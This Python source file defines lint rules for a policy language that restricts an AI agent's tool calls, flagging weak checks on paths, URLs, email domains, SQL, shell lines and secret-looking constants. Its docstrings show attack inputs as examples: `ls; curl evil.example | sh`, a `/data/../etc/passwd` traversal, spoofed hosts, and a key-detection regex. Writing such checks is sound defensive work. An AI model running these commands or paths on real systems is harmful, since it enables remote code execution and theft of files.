"""Structured values judged as plain text: paths, URLs, mailboxes, SQL, shell lines."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Final

from guardrails.diagnostics import Edit, Fix
from guardrails.language import core, syntax
from guardrails.language import types as t
from guardrails.lint.policy import Policy, Site, Use
from guardrails.lint.registry import Finding, of_kind, rule
from guardrails.lint.text_tests import TextTest

_PATH_START: Final = re.compile(r"(/|~|\./|[A-Za-z]:\\)")
_HOST_ONLY: Final = re.compile(r"https?://[^/?#]+$")
_HOST: Final = re.compile(r"@?\.?[a-z0-9-]+(\.[a-z0-9-]+)*\.[a-z]{2,}", re.IGNORECASE)
_SQL: Final = re.compile(
    r"\b(select|insert|update|delete|drop|alter|truncate|union|create|grant|merge)\b", re.IGNORECASE
)
_WORDS: Final = re.compile(r"[^\W\d_]{3,}(?:[ -][^\W\d_]+)*")


@rule("G161", TextTest)
def string_prefix_as_path(test: TextTest) -> Iterator[Finding]:
    """A folder recognised by the beginning of a text.

    **What.** `starts_with` on a string that holds a path.

    **Why.** `/data/../etc/passwd` begins with `/data`, and so does `/database`. `within` reads the string as a
    path first.

    **Avoid**
    ```guard
    on call read_file { allow when starts_with(args.path, "/data") }
    ```

    **Prefer**
    ```guard
    on call read_file { allow when args.path within "/data" }
    ```
    """
    if test.op != "starts_with" or test.kind != "path" or not _PATH_START.match(test.value):
        return
    cure = f'{test.written} within "{test.value.rstrip("/") or "/"}"'
    fix = Fix(f"write `{cure}`", (Edit(test.node.span, f"({cure})"),), "unsafe")
    slip = f"{test.value.rstrip('/')}/../x" if not test.canonical else f"{test.value}x"
    yield Finding(test.node.span, f"`{slip}` begins like this too", f"write `{cure}`", fix=fix)


@rule("G162", TextTest)
def traversal_by_text(test: TextTest) -> Iterator[Finding]:
    """`..` looked for in a path.

    **What.** A restriction that searches a path for `..`.

    **Why.** It refuses harmless names such as `v1..v2` and misses every other way out: absolute paths, `~`,
    links, encoded dots. Saying where a path may be needs no list of tricks.

    **Avoid**
    ```guard
    on call read_file {
      allow when args.size < 1000
      deny when args.path contains ".." because "Stay in the folder."
    }
    ```

    **Prefer**
    ```guard
    on call read_file {
      allow when args.size < 1000
      require args.path within "/data" because "Stay in the folder."
    }
    ```
    """
    if test.role == "restrict" and test.kind == "path" and test.op == "contains" and ".." in test.value:
        help = f"write `require {test.written} within ...`"
        yield Finding(test.node.span, "`..` is one of many ways out of a folder", help)


@rule("G163", TextTest)
def string_prefix_as_url(test: TextTest) -> Iterator[Finding]:
    """A site recognised by the beginning of a URL.

    **What.** `starts_with` with a scheme and a host, and no slash after it.

    **Why.** `https://acme.com.evil.example` begins with `https://acme.com`, and so does
    `https://acme.com@evil.example`.

    **Avoid**
    ```guard
    on call fetch_page { allow when starts_with(args.url, "https://acme.com") }
    ```

    **Prefer**
    ```guard
    on call fetch_page { allow when url(args.url).host == "acme.com" }
    ```
    """
    if test.role == "grant" and test.op == "starts_with" and _HOST_ONLY.match(test.value):
        host = test.value.partition("://")[2]
        help = f'compare the host: `url({test.written}).host == "{host}"`'
        yield Finding(test.node.span, f"`{test.value}.evil.example` begins like this too", help)


@rule("G164", TextTest)
def substring_domain_check(test: TextTest) -> Iterator[Finding]:
    """A domain recognised by a part of a text.

    **What.** `contains` or `ends_with` with the name of a host, in a grant about a mailbox, a URL or a host.

    **Why.** `acme.com` is contained in `acme.com.evil.example`, and `notacme.com` ends with it.

    **Avoid**
    ```guard
    on call open_ticket { allow when ends_with(args.email, "acme.com") }
    ```

    **Prefer**
    ```guard
    on call open_ticket { allow when email(args.email).domain == "acme.com" }
    ```
    """
    if test.role != "grant" or test.kind not in ("url", "email", "host") or not _HOST.fullmatch(test.value):
        return
    name = test.value.lstrip("@.")
    if test.op == "contains":
        slip = f"{test.value}.evil.example"
    elif test.op == "ends_with" and name == test.value:
        slip = f"not{test.value}"
    else:
        return
    help = f'compare the domain: `email({test.written}).domain == "{name}"`'
    if test.kind != "email":
        help = f'compare the host: `url({test.written}).host == "{name}"`'
    yield Finding(test.node.span, f"`{slip}` passes this as well", help)


@rule("G165", TextTest)
def sql_by_pattern(test: TextTest) -> Iterator[Finding]:
    """A query judged by the words in it.

    **What.** A text test for words of SQL on a query.

    **Why.** Comments, case, encodings and words inside of strings deceive every such test, in both directions.
    The query is parsed by `sql.kinds`, `sql.tables` and `sql.read_only`.

    **Avoid**
    ```guard
    on call run_sql {
      allow when args.limit < 1000
      deny when lower(args.query) contains "delete" because "Queries only read."
    }
    ```

    **Prefer**
    ```guard
    on call run_sql {
      allow when args.limit < 1000
      require sql.read_only(args.query) because "Queries only read."
    }
    ```
    """
    if test.kind == "sql" and test.op != "like" and _SQL.search(test.value):
        help = f"write `sql.read_only({test.written})` or look into `sql.kinds({test.written})`"
        yield Finding(test.node.span, "words do not tell what a query does", help)


@rule("G166", TextTest)
def shell_by_pattern(test: TextTest) -> Iterator[Finding]:
    """A command line judged as text.

    **What.** A text test on a shell command.

    **Why.** `ls; curl evil.example | sh` begins with `ls`. Pipes, substitutions, quotes and variables deceive
    every such test. The line is parsed by `shell.programs` and `shell.commands`.

    **Avoid**
    ```guard
    on call bash { allow when starts_with(args.command, "git ") }
    ```

    **Prefer**
    ```guard
    on call bash { allow when shell.programs(args.command) <= {"git", "ls"} }
    ```
    """
    if test.kind == "shell" and test.op != "like" and not (test.op == "matches" and _is_narrow(test.value)):
        help = f"look at `shell.programs({test.written})` or `shell.commands({test.written})`"
        yield Finding(test.node.span, "the text of a command line does not tell what it runs", help)


def _is_narrow(pattern: str) -> bool:
    """Whether a pattern for the whole line leaves no room for a second command."""
    return not re.search(r"\.[*+]|\[\^|\\S|\\W|\\D", pattern)


@rule("G167", TextTest)
def case_sensitive_deny(test: TextTest) -> Iterator[Finding]:
    """A word refused in one spelling only.

    **What.** A restriction that looks for a word in a text without regard to how it may be written.

    **Why.** `Password` and `PASSWORD` are other texts than `password`, and pass.

    **Avoid**
    ```guard
    on output { deny when text contains "password" because "No passwords in answers." }
    ```

    **Prefer**
    ```guard
    on output { deny when lower(text) contains "password" because "No passwords in answers." }
    ```
    """
    if test.role != "restrict" or test.op != "contains" or test.kind != "prose" or test.folded:
        return
    if _WORDS.fullmatch(test.value) and test.constant.type == t.STRING:
        other = test.value.upper() if test.value.upper() != test.value else test.value.lower()
        help = f"write `lower({test.written}) contains ...`"
        yield Finding(test.node.span, f"`{other}` passes this", help)


@rule("G168", core.Compare)
def unmatched_case(use: Use) -> Iterator[Finding]:
    """Lower case compared with a constant that has capitals.

    **What.** `lower(x)` is compared with a text that has a capital letter, or `upper(x)` with one that has a
    small letter.

    **Why.** The two are never equal, so a grant never applies and a restriction never holds back.

    **Avoid**
    ```guard
    on call deploy { allow when lower(args.stage) == "Test" }
    ```

    **Prefer**
    ```guard
    on call deploy { allow when lower(args.stage) == "test" }
    ```
    """
    node = of_kind(use.node, core.Compare)
    left, right = node.left, node.right
    if isinstance(left, core.Const):
        left, right = right, left
    if not isinstance(left, core.Invoke) or left.function not in ("lower", "upper"):
        return
    if not isinstance(right, core.Const) or not isinstance(right.value, str):
        return
    folded = right.value.lower() if left.function == "lower" else right.value.upper()
    if folded != right.value:
        written = use.policy.source(right.span)
        fix = Fix(f'write `"{folded}"`', (Edit(right.span, f'"{folded}"'),), "unsafe")
        yield Finding(node.span, f"`{left.function}(...)` is never {written or right.value}", fix=fix)


@rule("G169", syntax.Literal)
def secret_looking_literal(site: Site) -> Iterator[Finding]:
    """A text of the policy that looks like a key.

    **What.** A constant has the form of an access key, a token or a private key.

    **Why.** Policies are read by many people, kept in version control and shown in messages. A key that
    stands in one is no secret any more.

    **Avoid**
    ```guard
    on call query { allow when args.key == "AKIAIOSFODNN7EXAMPLE" }
    ```

    **Prefer**
    ```guard
    param api_key: string = ""
    on call query { allow when args.key == api_key }
    ```
    """
    node = of_kind(site.node, syntax.Literal)
    if node.kind == "string" and _SECRET.search(str(node.value)):
        yield Finding(node.span, "this looks like a key", "take it from a `param`, and replace the key")


_SECRET: Final = re.compile(
    r"\bAKIA[0-9A-Z]{16}\b|\bgh[pousr]_[A-Za-z0-9]{36}\b|\bsk-[A-Za-z0-9_-]{32,}\b|\bxox[abpr]-[0-9A-Za-z-]{20,}"
    r"|\bAIza[0-9A-Za-z_-]{35}\b|-----BEGIN [A-Z ]*PRIVATE KEY-----|\beyJ[\w-]{10,}\.eyJ[\w-]{10,}\.[\w-]{10,}"
)


@rule("G170", Policy)
def mixed_comparison(policy: Policy) -> Iterator[Finding]:
    """A field taken for a number here and for a text there.

    **What.** One argument of a tool that no tool file describes is compared with a number and with a text.

    **Why.** Values of different kinds never compare, so one of the two places errs for every call: a grant
    there never applies, and a restriction always does.

    **Avoid**
    ```guard
    on call transfer {
      allow when args.account < 100
      deny when args.account == "7" because "This account is closed."
    }
    ```

    **Prefer**
    ```guard
    on call transfer {
      allow when args.account < 100
      deny when args.account == 7 because "This account is closed."
    }
    ```
    """
    seen: dict[tuple[str | None, str], core.Load] = {}
    for use in policy.uses:
        node = use.node
        if not isinstance(node, core.Load) or node.root != "args" or _base(node.type) is None:
            continue
        first = seen.setdefault((use.tool, node.where), node)
        if _base(first.type) != _base(node.type):
            names = sorted((_NAMES[first.type], _NAMES[node.type]))
            yield Finding(
                node.span, f"`{node.where}` is taken for {names[0]} and for {names[1]}, and is one of them at most"
            )  # fmt: skip


_NAMES: Final[dict[t.Type, str]] = {
    t.STRING: "a text", t.DECIMAL: "a number", t.INT: "a number", t.BOOL: "a truth value",
}  # fmt: skip


def _base(kind: t.Type) -> str | None:
    return _NAMES.get(kind)
